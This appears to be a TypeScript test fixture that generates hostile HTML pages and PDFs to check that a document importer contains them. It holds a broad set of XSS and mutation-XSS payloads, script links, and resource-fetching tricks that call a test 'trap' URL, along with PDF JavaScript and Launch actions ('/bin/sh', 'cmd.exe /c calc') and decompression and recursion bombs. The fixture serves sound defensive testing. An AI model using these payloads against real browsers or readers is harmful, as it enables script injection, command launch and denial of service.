import { deflateSync } from 'node:zlib';
import { pdfOf } from './bombs';

export interface HostileDocument {
  name: string;
  /** Words by which the reader shows that it is open; null where nothing of it can be shown. */
  words: string | null;
  bytes: Uint8Array;
  /** It may be refused at the import, in words. */
  mayFail?: boolean;
}

/** Pages that try one way out each; whatever runs sets `escaped` on the window or asks the trap. */
export function hostilePages(trap: string): HostileDocument[] {
  const run = (name: string) => `top.escaped=parent.escaped=window.escaped='${name}';fetch('${trap}/${name}')`;
  const attacks: Record<string, { head?: string; body: string }> = {
    'meta refresh in the body': {
      head: `<noscript><meta http-equiv="refresh" content="0;url=${trap}/noscript"></noscript>`,
      body: `<meta http-equiv="refresh" content="0;url=${trap}/late"><meta http-equiv="Set-Cookie" content="a=b">`,
    },
    'svg that loads': {
      body: `<svg onload="${run('svg')}"><animate onbegin="${run('animate')}" attributeName="x" dur="1s"/><use href="${trap}/use.svg#a"/><foreignObject><iframe src="${trap}/foreign"></iframe></foreignObject><set attributeName="href" to="javascript:${run('set')}"/><feImage href="${trap}/fe.png"/></svg>`,
    },
    'style that fetches': {
      head: `<style>@import "${trap}/a.css";@import url('${trap}/b.css') layer(x);@namespace url(${trap}/ns);p{background:image-set("${trap}/set.png" 1x);cursor:url(${trap}/c.cur),auto;list-style:url(${trap}/l.png);content:url(${trap}/k.png);mask:url(${trap}/m.svg#m);filter:url(${trap}/f.svg#f);border-image:url(${trap}/bi.png)}p::before{content:url(${trap}/before.png)}\\70{background:\\75\\72\\6c(${trap}/escaped.png)}</style>`,
      body: `<p style="background-image:u\\rl(${trap}/odd.png);background:-webkit-image-set(url(${trap}/w.png) 1x)">Style</p><p style="--a:url(${trap}/var.png);background:var(--a)">Variable</p>`,
    },
    'form that sends itself': {
      body: `<form id="f" action="${trap}/form" method="get"><input name="q" value="1" autofocus onfocus="this.form.submit()"><button formaction="javascript:${run('formaction')}">Go</button><input type="image" src="${trap}/submit.png"></form><button form="f" autofocus onfocus="${run('button')}">x</button><isindex action="${trap}/isindex" type="image">`,
    },
    'sources of many kinds': {
      body: `<img srcset="${trap}/1.png 1x, ${trap}/2.png 2x" sizes="100vw" loading="eager"><picture><source srcset="${trap}/p.webp"><img src="${trap}/p.png"></picture><video poster="${trap}/poster.png"><source src="${trap}/v.mp4"><track src="${trap}/t.vtt" default></video><audio src="${trap}/a.mp3" autoplay></audio><input type="image" src="${trap}/i.png"><table background="${trap}/tb.png"><tr><td background="${trap}/td.png">cell</td></tr></table><img lowsrc="${trap}/low.png" dynsrc="${trap}/dyn.avi">`,
    },
    'links that fetch ahead': {
      head: [
        'prefetch',
        'preload',
        'modulepreload',
        'preconnect',
        'dns-prefetch',
        'prerender',
        'icon',
        'manifest',
        'stylesheet',
        'alternate stylesheet',
        'import',
      ]
        .map((rel) => `<link rel="${rel}" as="image" href="${trap}/${rel.replaceAll(' ', '-')}">`)
        .join(''),
      body: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${trap}/speculation"]}]}</script><a href="${trap}/ping-target" ping="${trap}/ping" attributionsrc="${trap}/attribution">link</a>`,
    },
    'objects and embeds': {
      body: `<object data="${trap}/object.swf" type="application/x-shockwave-flash"><param name="movie" value="${trap}/movie.swf"></object><object data="data:text/html,<script>${run('object')}</script>"></object><embed src="${trap}/embed.pdf"><embed src="javascript:${run('embed')}"><applet code="A" codebase="${trap}/applet/"></applet><portal src="${trap}/portal"></portal><fencedframe></fencedframe>`,
    },
    'frames within': {
      body: `<iframe srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;&lt;img src=${trap}/srcdoc.png&gt;"></iframe><iframe src="javascript:${run('frame')}"></iframe><iframe src="data:text/html,<script>${run('data')}</script>"></iframe><iframe src="//${trap.replace('http://', '')}/relative"></iframe><frameset><frame src="${trap}/frame"></frameset>`,
    },
    'base and targets': {
      head: `<base href="${trap}/base/" target="_top">`,
      body: `<img src="of-base.png"><a id="top" href="page.html" target="_top">A link to the top</a><a href="page.html" target="_blank" rel="opener">another</a><area href="x" target="_parent">`,
    },
    'links that are scripts': {
      body: [
        `javascript:${run('plain')}`,
        `java&#10;script:${run('newline')}`,
        `&#x6A;avascript:${run('entity')}`,
        `\u0001javascript:${run('control')}`,
        `vbscript:${run('vb')}`,
        `data:text/html,<script>${run('dataurl')}</script>`,
        `jAvAsCrIpT:${run('case')}`,
      ]
        .map((href) => `<a class="script" href="${href.replaceAll('"', '&quot;')}">A link that is a script</a> `)
        .join(''),
    },
    'MathML that hides': {
      body: `<math><annotation-xml encoding="text/html"><img src="${trap}/annotation.png" onerror="${run('annotation')}"></annotation-xml><maction actiontype="statusline" xlink:href="javascript:${run('maction')}">x</maction><mi href="javascript:${run('mi')}">y</mi><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mglyph')}&gt;"></mglyph></table></mtext></math>`,
    },
    'markup that changes when it is read again': {
      body: `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript><svg></p><style><a id="</style><img src=1 onerror=${run('svgstyle')}>"></svg><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run('nested')} src>"></svg></math></form><template><img src=x onerror="${run('template')}"></template><xmp><img title="</xmp><img src=x onerror=${run('xmp')}>"></xmp><textarea><img title="</textarea><img src=x onerror=${run('textarea')}>"></textarea><title><img title="</title><img src=x onerror=${run('title')}>"></title><div id="attributes" is="x-a" name="body"></div>`,
    },
  };
  return Object.entries(attacks).map(([what, { head = '', body }], index) => {
    const words = `An ordinary paragraph of page ${index + 1}`;
    const html = `<!doctype html><html><head><title>Page ${index + 1}: ${what}</title>${head}</head><body onload="${run('onload')}" onpageshow="${run('pageshow')}"><p>${words} about the conduct of platforms, and about nothing else.</p>${body}</body></html>`;
    return { name: `Page ${index + 1}: ${what}`, words, bytes: Buffer.from(html) };
  });
}

const escaped = (text: string) => text.replace(/[\\()]/g, '\\$&');

/** PDFs that act, launch, carry and swell. */
export function hostilePdfs(trap: string): HostileDocument[] {
  const script = `app.alert('escaped'); app.launchURL('${trap}/launch'); this.submitForm('${trap}/submit');`;
  const action = `<< /S /JavaScript /JS (${escaped(script)}) >>`;
  const documents: HostileDocument[] = [];
  const add = (
    name: string,
    of: {
      catalogue?: string;
      page?: string;
      more?: (string | Buffer)[];
      box?: string;
      content?: string;
      mayFail?: boolean;
    } = {},
  ) => {
    const words = `Words of the file ${name}`;
    const content = of.content ?? `BT /F1 14 Tf 72 700 Td (${words}.) Tj ET`;
    const bytes = pdfOf([
      `<< /Type /Catalog /Pages 2 0 R ${of.catalogue ?? ''} >>`,
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [${of.box ?? '0 0 612 792'}] /Resources << /Font << /F1 3 0 R >> /XObject << /I 6 0 R >> >> /Contents 5 0 R ${of.page ?? ''} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ...(of.more ?? ['null']),
    ]);
    documents.push({ name, words, bytes, ...(of.mayFail && { mayFail: true }) });
  };
  add('open action', { catalogue: `/OpenAction ${action} /AA << /WC ${action} /DS ${action} /WP ${action} >>` });
  add('launch and send', {
    catalogue: `/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /Next << /S /URI /URI (${trap}/openuri) /Next << /S /GoToR /F << /FS /URL /F (${trap}/gotor.pdf) >> /D [0 /Fit] >> >> >>`,
    page: `/AA << /O << /S /SubmitForm /F << /FS /URL /F (${trap}/submitted) >> >> /C << /S /ImportData /F (${trap}/import.fdf) >> >>`,
  });
  add('embedded files', {
    catalogue: `/Names << /EmbeddedFiles << /Names [(run.html) 6 0 R] >> >> /OpenAction << /S /GoToE /T << /R /C /N (run.html) >> >>`,
    more: [
      '<< /Type /Filespec /F (run.html) /UF (../../run.html) /EF << /F 7 0 R >> >>',
      `<< /Type /EmbeddedFile /Length 60 >>\nstream\n${`<script>fetch("${trap}/attached")</script>`.padEnd(60).slice(0, 60)}\nendstream`,
    ],
  });
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a"><pageSet><pageArea><contentArea w="6in" h="9in"/><medium short="8in" long="11in"/></pageArea></pageSet><event activity="initialize"><script contentType="application/x-javascript">app.alert("escaped")</script></event><draw><value><image href="${trap}/xfa.png"/></value></draw><field><ui><imageEdit/></ui><value><exData contentType="text/html" href="${trap}/exdata"><body xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">x</a></body></exData></value></field></subform></template></xdp:xdp>`;
  add('XFA form', {
    catalogue: '/AcroForm << /Fields [] /NeedAppearances true /XFA 6 0 R >> /NeedsRendering true',
    more: [`<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`],
  });
  const link = (index: number) =>
    `<< /Type /Annot /Subtype /Link /Rect [${index % 600} ${index % 780} ${(index % 600) + 9} ${(index % 780) + 9}] /Border [0 0 0] /A << /S /URI /URI (${trap}/annotation/${index}) >> >>`;
  add('hundred thousand annotations', {
    page: `/Annots [${Array.from({ length: 100_000 }, (_, index) => `${index + 7} 0 R`).join(' ')}]`,
    more: ['null', ...Array.from({ length: 100_000 }, (_, index) => link(index))],
  });
  const pixels = deflateSync(Buffer.alloc(60_000 * 60));
  add('picture of sixty thousand pixels', {
    content:
      'q 612 0 0 600 0 0 cm /I Do Q BT /F1 14 Tf 72 700 Td (Words of the file picture of sixty thousand pixels.) Tj ET',
    more: [
      Buffer.concat([
        Buffer.from(
          `<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode /Length ${pixels.length} >>\nstream\n`,
        ),
        pixels,
        Buffer.from('\nendstream'),
      ]),
    ],
  });
  documents.push({
    name: 'pages that hold themselves',
    words: null,
    mayFail: true,
    bytes: pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 1000000000 >>',
      '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 99999999 >>',
      '<< /Type /Outlines /First 5 0 R /Last 5 0 R >>',
      '<< /Title (Round) /Parent 5 0 R /Next 5 0 R /First 5 0 R /Last 5 0 R >>',
    ]),
  });
  add('drawing that draws itself', {
    content: '/I Do BT /F1 14 Tf 72 700 Td (Words of the file drawing that draws itself.) Tj ET',
    more: [
      '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 6 0 R >> >> /Length 12 >>\nstream\n/I Do /I Do \nendstream',
    ],
  });
  return documents;
}
